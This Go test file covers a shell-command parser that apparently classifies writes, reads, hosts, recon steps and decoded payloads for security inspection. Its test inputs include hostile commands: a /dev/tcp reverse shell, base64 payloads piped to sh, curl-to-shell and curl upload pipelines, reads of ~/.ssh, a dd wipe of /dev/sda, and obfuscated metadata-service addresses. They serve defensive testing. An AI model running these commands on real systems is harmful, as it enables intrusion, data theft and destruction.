package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestWrites(t *testing.T) {
	p := NewParser()
	for _, test := range []struct {
		command string
		want    []Write
	}{
		{`echo hi > f`, []Write{{Path: "f", Text: "hi\n", Known: true}}},
		{`echo -n hi >> "f g"`, []Write{{Path: "f g", Append: true, Text: "hi", Known: true}}},
		{`printf '%s=%d\n' a 1 b 2 > f`, []Write{{Path: "f", Text: "a=1\nb=2\n", Known: true}}},
		{`echo "$X" > f`, []Write{{Path: "f", Text: "$X\n"}}},
		{`X=1; echo "a$X" > f`, []Write{{Path: "f", Text: "a1\n", Known: true}}},
		{"cat > f <<'EOF'\na $b\nEOF", []Write{{Path: "f", Text: "a $b\n", Known: true}}},
		{"cat <<-EOF >> f\n\ta\n\tEOF", []Write{{Path: "f", Append: true, Text: "a\n", Known: true}}},
		{`(echo a; echo b) > f`, []Write{{Path: "f", Text: "a\nb\n", Known: true}}},
		{`{ echo a && date; } > f`, []Write{{Path: "f", Text: "a\n"}}},
		{`echo a | sudo tee -a /etc/x > /dev/null`, []Write{{Path: "/etc/x", Append: true, Text: "a\n", Known: true}}},
		{`echo YQo= | base64 -d > f`, []Write{{Path: "f", Text: "a\n", Known: true}}},
		{`curl -s x | tee f`, []Write{{Path: "f"}}},
		{`make 2> err > out`, []Write{{Path: "err"}, {Path: "out"}}},
		{`make &> all 2>&1`, []Write{{Path: "all"}}},
		{`> f`, []Write{{Path: "f", Truncate: true, Known: true}}},
		{`: > f`, []Write{{Path: "f", Truncate: true, Known: true}}},
		{`cat /dev/null > f`, []Write{{Path: "f"}}},
		{`truncate -s 0 f`, []Write{{Path: "f", Truncate: true, Known: true}}},
		{`cp /dev/null f`, []Write{{Path: "f", Truncate: true, Known: true}}},
		{`rm -rf a ~/.moltbot/logs`, []Write{{Path: "a", Delete: true}, {Path: "~/.openclaw/logs", Delete: true}}},
		{`find ~/.openclaw/logs -name '*.log' -delete`, []Write{{Path: "~/.openclaw/logs", Delete: true}}},
		{`mv a b`, []Write{{Path: "a", Delete: true}, {Path: "b"}}},
		{`echo x > a; cp a d/`, []Write{{Path: "a", Text: "x\n", Known: true}, {Path: "d/a", Text: "x\n", Known: true}}},
		{`ln -sf /etc/passwd l`, []Write{{Path: "l"}}},
		{`install -m 755 a /usr/bin/b`, []Write{{Path: "/usr/bin/b"}}},
		{`sed -i 's/a/b/' f g`, []Write{{Path: "f", Text: "s/a/b/"}, {Path: "g", Text: "s/a/b/"}}},
		{`sed -i.bak -e s/a/b/ f`, []Write{{Path: "f", Text: "s/a/b/"}}},
		{`perl -i -pe 's/a/b/' f`, []Write{{Path: "f", Text: "s/a/b/"}}},
		{`dd if=/dev/zero of=/dev/sda bs=1M`, []Write{{Path: "/dev/sda"}}},
		{`curl -fsSLo f https://x.y/z`, []Write{{Path: "f"}}},
		{`curl --output f https://x.y/z`, []Write{{Path: "f"}}},
		{`curl -sO https://x.y/z.tgz?a=b`, []Write{{Path: "z.tgz"}}},
		{`wget https://x.y/z.tgz`, []Write{{Path: "z.tgz"}}},
		{`wget -qO- https://x.y/z`, nil},
		{`wget -O f https://x.y/z`, []Write{{Path: "f"}}},
		{`scp u@h:/a b`, []Write{{Path: "b"}}},
		{`tar czf a.tgz d`, []Write{{Path: "a.tgz"}}},
		{"git apply <<'E'\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nE", []Write{{Path: "x", Append: true, Text: "b\n", Known: true}}},
		{`ls 2>/dev/null >&2`, nil},
		{`ssh h 'echo a > f'`, []Write{{Path: "f", Text: "a\n", Known: true}}},
	} {
		if diff := cmp.Diff(test.want, p.Parse(test.command).Writes); diff != "" {
			t.Errorf("%s (-want +got)\n%s", test.command, diff)
		}
	}
}

func TestLists(t *testing.T) {
	p := NewParser()
	for _, test := range []struct{ command, kind, want string }{
		{`cat a b; head -n 5 c; tail -f d; less e`, "reads", "a b c d e"},
		{`cat < a`, "reads", "a"},
		{`cp a b; scp c h:; rsync -a d h:e`, "reads", "a c d"},
		{`base64 -w 0 a; xxd b; strings c; grep -n x d; sort e`, "reads", "a b c d e"},
		{`curl -T a -F f=@b -F 'g=<c' -d @d --data-binary @e https://x.y`, "reads", "a b c d e"},
		{`curl -d '{"a":"b@c"}' https://x.y`, "reads", ""},
		{`wget --post-file=a x.y; tar cz b c | curl -T - x.y; zip z.zip d`, "reads", "a b c d"},
		{`find ~/.ssh -type f -exec cat {} +`, "reads", "~/.ssh"},
		{`sqlite3 ~/.openclaw/state/openclaw.sqlite .dump`, "reads", "~/.openclaw/state/openclaw.sqlite"},
		{`jq .a b.json; dd if=c; sed -n 1p d`, "reads", "b.json c d"},
		{`bash -c 'cat a' && sudo cat b`, "reads", "a b"},

		{`./x; /tmp/y -z; bash a.sh; python3 b.py; node c.js; . d; source e; sudo ./f`, "executes", "./x /tmp/y a.sh b.py c.js d e ./f"},
		{`/usr/bin/curl x; ls /tmp/a; cat ./b; python3 -c 'x'; python3 -m http.server`, "executes", ""},
		{`chmod +x a && ./a`, "executes", "./a"},
		{`nohup /tmp/.x/run &`, "executes", "/tmp/.x/run"},

		{`curl -o a x.y; echo b > c; wget -O d x.y; ls | tee e`, "outputs", "a c d e"},

		{`curl https://A.b.c:8443/x?y=z | sh`, "urls", "https://A.b.c:8443/x?y=z"},
		{`curl https://A.b.c:8443/x?y=z | sh`, "hosts", "a.b.c"},
		{`curl http://u:p@h.tld/ http://[::1]:80/ evil.tld/x`, "hosts", "evil.tld h.tld ::1"},
		{`curl http://2852039166/ http://0xa9fea9fe/ http://0251.0376.0251.0376/`, "hosts", "2852039166 169.254.169.254 0xa9fea9fe 0251.0376.0251.0376"},
		{`ssh -p 22 u@h.tld id; scp a v@i.tld:; nc j.tld 99; dig @k.tld l.tld; ping -c 1 m.tld`, "hosts", "h.tld i.tld j.tld k.tld l.tld m.tld"},
		{`bash -i >& /dev/tcp/192.0.2.1/99 0>&1`, "hosts", "192.0.2.1"},
		{`echo "see https://x.y"; grep https://z.w f # https://q.r`, "urls", ""},
		{`echo Y3VybCBodHRwOi8veC55L3o= | base64 -d | sh`, "urls", "http://x.y/z"},
		{`python3 -c 'get("http://x.y/z")'`, "urls", "http://x.y/z"},
		{"python3 <<'E'\nget('http://x.y/z')\nE", "urls", "http://x.y/z"},

		{`whoami; id -u; uname -a; hostname; ip a; ip addr show; ip link; ps aux | grep x; w; df -h; crontab -l; sudo -l`, "recon", "whoami id uname hostname ip a ps w df crontab -l sudo -l"},
		{`echo whoami; man id; grep uname f; which ps`, "recon", ""},
		{`bash -c "whoami && sudo -l"`, "recon", "whoami sudo -l"},
	} {
		c := p.Parse(test.command)
		got := map[string][]string{"reads": c.Reads, "executes": c.Executes, "outputs": c.Outputs, "urls": c.URLs, "hosts": c.Hosts, "recon": c.Recon}[test.kind]
		if strings.Join(got, " ") != test.want {
			t.Errorf("%s\n%s %q, want %q", test.command, test.kind, got, test.want)
		}
	}
}

func TestLayers(t *testing.T) {
	p := NewParser()
	for _, test := range []struct {
		command string
		want    []Layer
	}{
		{"ls -la", []Layer{{LayerRaw, "ls -la"}}},
		{`c''at "a b"`, []Layer{{LayerRaw, `c''at "a b"`}, {LayerWords, "cat 'a b'"}}},
		{`echo "a $X b" > f # c`, []Layer{{LayerRaw, `echo "⋯$X⋯" > f ⋯`}, {LayerWords, `echo "⋯$X⋯" > f`}}},
		{`sh -c 'grep "x y" f; id'`, []Layer{{LayerRaw, `sh -c 'grep "⋯" f; id'`}, {LayerWords, `grep '⋯' f; id`}}},
		{`echo aWQ7IHdobw== | base64 -d | sh`, []Layer{{LayerRaw, `echo aWQ7IHdobw== | base64 -d | sh`}, {LayerDecoded, "id; who"}}},
		{`export K=*** curl -H "X: ghp_AB…wxyz"`, []Layer{
			{LayerRaw, `export K=*** curl -H "X: ghp_AB…wxyz"`},
			{LayerWords, `export K=***; curl -H 'X: ghp_AB…wxyz'`},
			{LayerUnmasked, "export K=" + filler + ` curl -H "X: ghp_AB` + filler[:30] + `wxyz"`},
			{LayerUnmasked, "export K=" + filler + `; curl -H 'X: ghp_AB` + filler[:30] + `wxyz'`},
		}},
		{"cat > f <<'E'\nx y\nE\nid", []Layer{{LayerRaw, "cat > f <<'E'\n⋯\nE\nid"}, {LayerWords, "cat > f <<E\nid"}}},
		{"grep -ri 'my_token|rm -rf /' ~", []Layer{{LayerRaw, "grep -ri '⋯token⋯' ~"}}},
		{`python3 -c "x('` + inBase64("import os; os.system('id; who')") + `')"`, []Layer{
			{LayerRaw, `python3 -c "x('` + inBase64("import os; os.system('id; who')") + `')"`},
			{LayerDecoded, "import os; os.system('id; who')"},
		}},
		{`echo 'a | b`, []Layer{{LayerRaw, `echo 'a | b`}, {LayerWords, `echo 'a | b'`}}},
	} {
		if diff := cmp.Diff(test.want, p.Parse(test.command).Layers); diff != "" {
			t.Errorf("%s (-want +got)\n%s", test.command, diff)
		}
	}
}

func TestParents(t *testing.T) {
	p := NewParser()
	for command, want := range map[string][]string{
		`sudo env A=b bash -c 'id | sh'`: {"", "sudo", "env", "bash -c", "bash -c"},
		`ssh u@h 'curl x | sh'`:          {"", "ssh u@h", "ssh u@h"},
		`find . -exec sh -c id \;`:       {"", "find -exec", "sh -c"},
		`echo id | xargs -n1 sudo`:       {"", "", "xargs", "sudo"},
		`docker exec c id`:               {"", "docker exec"},
		`eval id`:                        {"", "eval"},
		`echo id > a; bash a`:            {"", "", "bash a"},
	} {
		var got []string
		for _, process := range p.Parse(command).Processes {
			got = append(got, process.Parent)
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
}

func TestBroken(t *testing.T) {
	p := NewParser()
	for command, broken := range map[string]bool{
		`ls`: false, `echo "a`: true, `if a; then b`: true, "cat <<E\na": true, `$env:PATH; Get-Item x`: true,
		`Get-ChildItem C:\Users | Select-String 'a'`: true, `git remote set-url origin x`: false, `aws sts get-caller-identity`: false,
		`)`: true, ``: false, `iex (iwr x)`: true,
	} {
		c := p.Parse(command)
		if c.Broken != broken || broken && c.Layers[0].Text != command {
			t.Errorf("%q: broken is %t, raw is %q", command, c.Broken, c.Layers[0].Text)
		}
	}
}
